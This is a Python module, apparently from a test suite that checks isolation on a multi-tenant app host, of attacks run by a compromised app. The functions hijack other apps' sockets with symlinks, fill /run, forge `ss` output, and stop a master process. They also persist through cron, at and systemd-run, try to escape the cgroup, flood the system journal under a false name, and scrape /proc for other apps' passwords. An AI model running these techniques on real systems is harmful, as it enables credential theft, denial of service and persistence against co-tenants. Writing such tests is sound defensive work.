"""What somebody runs who has taken over the hostile app: functions of `facts`, called in its own process."""

import contextlib
import errno
import json
import os
import signal
import socket
import subprocess
import time


def _refused(action):
    """What *action* gives, or how the host refuses it."""
    try:
        return {"got": action()}
    except OSError as error:
        return {"refused": errno.errorcode.get(error.errno, str(error))}


def _forked(work):
    """Run *work* in a daemon of this user, and return when it has begun."""
    reader, writer = os.pipe()
    if os.fork():
        os.close(writer)
        with os.fdopen(reader) as said:
            return said.readline().strip()
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        os.close(reader)
        work(lambda text: os.write(writer, f"{text}\n".encode()))
    finally:
        os._exit(0)


# Rows 1 and 2: the home


def link_tmp(facts):
    """A link to somebody else's directory in the place of ~/tmp."""
    home = os.environ["HOME"]
    os.rename(f"{home}/tmp", f"{home}/tmp.gone")
    os.symlink(facts["target"], f"{home}/tmp")
    return os.readlink(f"{home}/tmp")


def put_tmp_back(facts):
    home = os.environ["HOME"]
    if os.path.islink(f"{home}/tmp"):
        os.unlink(f"{home}/tmp")
    if os.path.isdir(f"{home}/tmp.gone") and not os.path.lexists(f"{home}/tmp"):
        os.rename(f"{home}/tmp.gone", f"{home}/tmp")
    return os.listdir(home)


# Row 4: sockets


def take_place(facts):
    """Put a link to another app's socket where visitors of this one are led to; by a rename, so that it is never missing."""
    own = facts["own"]

    def swap():
        os.symlink(facts["target"], f"{own}.new")
        os.rename(own, f"{own}.mine")
        os.rename(f"{own}.new", own)
        return os.readlink(own)

    return _refused(swap)


def give_place_back(facts):
    own = facts["own"]
    return _refused(lambda: os.rename(f"{own}.mine", own))


def move_directory(facts):
    """Another directory in the place of the own socket directory."""
    own = facts["directory"]
    return _refused(lambda: os.rename(own, f"{own}.mine"))


# Row 5: /run


def fill(facts):
    """Files wherever a directory below *top* takes them, up to so many bytes and names."""
    left, names, places = facts["bytes"], facts["names"], {}
    for place, _, _ in os.walk(facts["top"]):
        try:
            with open(f"{place}/.filled", "wb") as file:
                while left > 0:
                    left -= file.write(bytes(2**20))
        except OSError as error:
            if os.path.exists(f"{place}/.filled"):
                places[place] = errno.errorcode.get(error.errno, str(error))
            continue
        places[place] = "as much as it wanted"
    for place in places:
        with contextlib.suppress(OSError):
            for number in range(names):
                os.close(os.open(f"{place}/.filled-{number}", os.O_CREAT | os.O_WRONLY))
    return {"wrote": facts["bytes"] - left, "places": places}


def empty(facts):
    for place, _, files in os.walk(facts["top"]):
        for name in files:
            if name.startswith(".filled"):
                with contextlib.suppress(OSError):
                    os.unlink(f"{place}/{name}")
    return "empty"


# Row 6: names of sockets


def forge_lines(facts):
    """Sockets whose names look like lines of `ss` about the neighbour's socket, and a number that is none."""
    target, directory = facts["target"], facts["directory"]
    lines = [
        f"x\nu_str LISTEN zz 0 {target} 1 * 0\n",
        f"x\nu_str LISTEN 99 128 {target} 1 * 0\n",
        f"x\nu_str ESTAB 0 0 {target} 1 * 0\n",
        f"x 0 LISTEN 7 7 {target} 1 * 0",
        "x\n" * 20,
    ]
    kept = []

    def work(say):
        made = 0
        places = ["\0", f"{directory}/", os.environ["HOME"] + "/", ""]
        for place in places:
            with contextlib.suppress(OSError):
                os.chdir(os.environ["HOME"])
            for line in lines:
                name = f"{place}{line}" if place == "\0" else f"{place}{line.replace('/', '/')}"
                with contextlib.suppress(OSError, ValueError):
                    one = socket.socket(socket.AF_UNIX)
                    one.bind(name[:107])
                    one.listen(8)
                    kept.append(one)
                    made += 1
        # A relative name may hold slashes only where there are such directories: the home is the app's own.
        home = os.environ["HOME"]
        for line in lines:
            with contextlib.suppress(OSError):
                os.chdir(home)
                os.makedirs(os.path.dirname(line) or ".", exist_ok=True)
                one = socket.socket(socket.AF_UNIX)
                one.bind(line)
                one.listen(8)
                kept.append(one)
                made += 1
        say(f"{made} sockets")
        time.sleep(facts["seconds"])

    return _forked(work)


# Row 9: statistics


def _serve(listener, facts, say):
    """Answer what the file says that is named in the facts, so that it can change from one question to the next."""
    signal.signal(signal.SIGPIPE, signal.SIG_IGN)
    say("serves")
    end = time.monotonic() + facts["seconds"]
    listener.settimeout(1)
    kept = []
    while time.monotonic() < end:
        try:
            connection, _ = listener.accept()
        except TimeoutError:
            continue
        except OSError:
            time.sleep(0.05)
            continue
        connection.settimeout(20)
        try:
            with open(facts["says"], encoding="utf-8") as file:
                chosen = json.load(file)
            if os.fork():
                connection.close()
                continue
            if "text" in chosen:
                connection.sendall(chosen["text"].encode("utf-8", "surrogateescape"))
            if "repeat" in chosen:
                while True:
                    connection.sendall(chosen["repeat"].encode() * 4096)
            if "drip" in chosen:
                while True:
                    connection.sendall(b" ")
                    time.sleep(0.5)
            if "hold" in chosen:
                time.sleep(60)
            os._exit(0)
        except (OSError, ValueError):
            kept.append(connection)


def take_statistics(facts):
    """Answer in the place of the own statistics: at its path, else by its descriptor, which every worker inherits."""

    def by_path(say):
        os.rename(facts["stats"], f"{facts['stats']}.mine")
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(facts["stats"])
        listener.listen(64)
        _serve(listener, facts, say)

    if os.access(os.path.dirname(facts["stats"]), os.W_OK):
        if os.path.lexists(facts["stats"]):
            return {"by path": _forked(by_path)}

        def anew(say):
            listener = socket.socket(socket.AF_UNIX)
            listener.bind(facts["stats"])
            listener.listen(64)
            _serve(listener, facts, say)

        return {"at a new path": _forked(anew)}
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError, ValueError):
            listener = socket.socket(fileno=os.dup(int(name)))
            if listener.family == socket.AF_UNIX and str(listener.getsockname()).endswith(".stats"):

                def inherited(say, listener=listener):
                    # The master would answer as well: it is stopped, as its user may.
                    os.kill(facts["master"], signal.SIGSTOP)
                    _serve(listener, facts, say)

                return {"by descriptor": _forked(inherited)}
    return {"refused": "no path and no descriptor"}


def answers(facts):
    """What the statistics say from now on."""
    with open(f"{facts['says']}.new", "w", encoding="utf-8") as file:
        json.dump(facts["answer"], file)
    os.rename(f"{facts['says']}.new", facts["says"])
    return facts["answer"]


# Row 12: what is left behind


def leave_processes(facts):
    """Processes that want to outlive their activation, each in its own way; their arguments have the mark."""
    mark = facts["mark"]
    ways = {}

    def becomes(way):
        # Under uWSGI `sys.executable` is none.
        os.execvp("python3", ["python3", "-c", f"# {mark} {way}\nimport time\ntime.sleep(900)"])  # noqa: S606

    def ignoring(say):
        for number in range(1, 32):
            with contextlib.suppress(OSError, ValueError):
                signal.signal(number, signal.SIG_IGN)
        say("left")
        time.sleep(0.1)
        becomes("daemon that ignores every signal")

    def plain(say):
        say("left")
        time.sleep(0.1)
        becomes("daemon")

    def stopped(say):
        say("left")
        time.sleep(0.1)
        if not os.fork():
            becomes("child of one that is stopped")
        os.kill(os.getpid(), signal.SIGSTOP)

    for way, work in (("ignoring", ignoring), ("plain", plain), ("stopped", stopped)):
        ways[way] = _forked(work)
    subprocess.Popen(
        ["python3", "-c", f"# {mark} child of a request\nimport time\ntime.sleep(900)"],
        start_new_session=True,
    )
    ways["child"] = "left"
    # A thread that the interpreter waits for at its end.
    import threading

    threading.Thread(target=time.sleep, args=(900,), daemon=False, name=mark).start()
    ways["thread"] = "left"
    return ways


def escape(facts):
    """Leave the own control group: by its files, by systemd, by whoever else starts processes for a user."""
    found = {}
    with open("/proc/self/cgroup", encoding="utf-8") as file:
        groups = [line.strip().split(":", 2) for line in file]
    for number, names, path in groups:
        top = f"/sys/fs/cgroup/{names.removeprefix('name=')}" if number != "0" else "/sys/fs/cgroup"
        place = path
        while place not in ("/", ""):
            place = os.path.dirname(place)
            for name in ("cgroup.procs", "tasks"):

                def move(file=f"{top}{place}/{name}"):
                    with open(file, "w", encoding="utf-8") as tasks:
                        tasks.write(str(os.getpid()))
                    return file

                found[f"{names or 'v2'} {place} {name}"] = _refused(move)
    return {way: one for way, one in found.items() if "got" in one} or {"refused": f"{len(found)} files"}


def by_others(facts):
    """A process outside of it, started by a service of the host."""
    # Never as long as a test: what does start ends by itself.
    command = "sleep 120"
    ways = {
        "systemd-run": ["systemd-run", "--no-ask-password", "--scope", "sh", "-c", command],
        "systemd-run --user": ["systemd-run", "--user", "sh", "-c", command],
        "busctl": ["busctl", "call", "org.freedesktop.systemd1", "/org/freedesktop/systemd1",
                   "org.freedesktop.systemd1.Manager", "StartTransientUnit", "ssa(sv)a(sa(sv))", "planted.scope",
                   "fail", "1", "PIDs", "au", "1", str(os.getpid()), "0"],
        "linger": ["loginctl", "--no-ask-password", "enable-linger"],
        "at": ["sh", "-c", f"echo '{command}' | at now"],
        "cron": ["sh", "-c", f"echo '* * * * * {command}' | crontab -"],
        "batch": ["sh", "-c", f"echo '{command}' | batch"],
    }  # fmt: skip
    found = {}
    for way, words in ways.items():
        try:
            done = subprocess.run(words, capture_output=True, text=True, timeout=8, check=False)
            found[way] = (
                {"got": done.stdout[-100:]} if done.returncode == 0 else {"refused": done.stderr[-100:]}
            )
        except subprocess.TimeoutExpired:
            found[way] = {"got": "it runs"}
        except OSError as error:
            found[way] = {"refused": errno.errorcode.get(error.errno, str(error))}
    return found


# Row 13: the journal


def flood(facts):
    """So many lines of so many bytes on the own standard error."""
    line = b"flood " + b"z" * facts["bytes"] + b"\n"
    for _ in range(facts["lines"]):
        os.write(2, line)
    return facts["lines"] * facts["bytes"]


def flood_system(facts):
    """The same past it: into the sockets of the system's own journal and of syslog, in somebody else's name."""
    found = {}
    body = b"z" * facts["bytes"]
    for path, message in (
        (
            "/run/systemd/journal/socket",
            b"SYSLOG_IDENTIFIER=" + facts["as"].encode() + b"\nMESSAGE=flood " + body + b"\n",
        ),
        ("/run/systemd/journal/dev-log", b"<13>" + facts["as"].encode() + b": flood " + body),
        ("/dev/log", b"<13>" + facts["as"].encode() + b": flood " + body),
    ):
        sent = 0
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as client:
                client.settimeout(10)
                client.connect(path)
                for _ in range(facts["lines"]):
                    client.send(message)
                    sent += 1
        except OSError as error:
            found[path] = [sent, errno.errorcode.get(error.errno, str(error))]
            continue
        found[path] = [sent, ""]
    try:
        with socket.socket(socket.AF_UNIX) as client:
            client.settimeout(20)
            client.connect("/run/systemd/journal/stdout")
            client.sendall(facts["as"].encode() + b"\n\n6\n0\n0\n0\n0\n")
            for _ in range(facts["lines"]):
                client.sendall(b"flood " + body + b"\n")
        found["stdout"] = [facts["lines"], ""]
    except OSError as error:
        found["stdout"] = [0, errno.errorcode.get(error.errno, str(error))]
    return found


# Other apps' passwords while they are deployed


def watch(facts):
    """Read all arguments and environments for so many seconds, as a daemon; what it saw is in ~/watched."""

    def work(say):
        say("watches")
        found = set()
        end = time.monotonic() + facts["seconds"]
        while time.monotonic() < end:
            for pid in filter(str.isdecimal, os.listdir("/proc")):
                for name in ("cmdline", "environ"):
                    with contextlib.suppress(OSError), open(f"/proc/{pid}/{name}", "rb") as file:
                        content = file.read()
                        found |= {word for word in facts["words"] if word.encode() in content}
            time.sleep(0.05)
            with open(os.path.join(os.environ["HOME"], "watched"), "w", encoding="utf-8") as file:
                json.dump(sorted(found), file)

    return _forked(work)


def watched(facts):
    with open(os.path.join(os.environ["HOME"], "watched"), encoding="utf-8") as file:
        return json.load(file)


# Removal


def prepare_against_removal(facts):
    """Leave in the own files whatever a removal might stumble over."""
    os.chdir(facts["directory"])
    with open("sparse", "wb") as file:
        file.truncate(2 * 2**30)
    os.mkfifo("pipe")
    with socket.socket(socket.AF_UNIX) as bound:
        bound.bind("bound.sock")
    with open(b"\xff\xfe\n\x1b[2J", "wb") as file:
        file.write(b"x")
    os.symlink("/etc", "etc")
    os.mkdir("closed")
    with open("closed/file", "wb") as file:
        file.write(b"x")
    os.chmod("closed", 0)
    for _ in range(2500):
        os.mkdir("deeper")
        os.chdir("deeper")
    os.chdir("/")
    return "left"
